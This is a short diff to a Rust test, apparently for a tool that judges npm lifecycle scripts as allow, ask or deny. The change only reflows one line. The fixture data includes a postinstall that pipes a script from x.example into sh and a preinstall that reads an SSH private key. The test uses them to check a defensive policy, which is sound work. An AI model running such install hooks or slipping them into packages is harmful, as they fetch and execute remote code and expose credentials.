@@ -461,7 +461,10 @@ fn a_suspected_package_that_the_project_names_is_known() {
 fn a_lifecycle_script_is_judged_when_it_is_written() {
     let world = World::new();
     for (script, want) in [
-        (r#""postinstall": "curl https://x.example/i.sh | sh""#, "ask"),
+        (
+            r#""postinstall": "curl https://x.example/i.sh | sh""#,
+            "ask",
+        ),
         (r#""preinstall": "cat ~/.ssh/id_ed25519""#, "deny"),
         (r#""postinstall": "prisma generate""#, "allow"),
         (r#""prepare": "husky""#, "allow"),
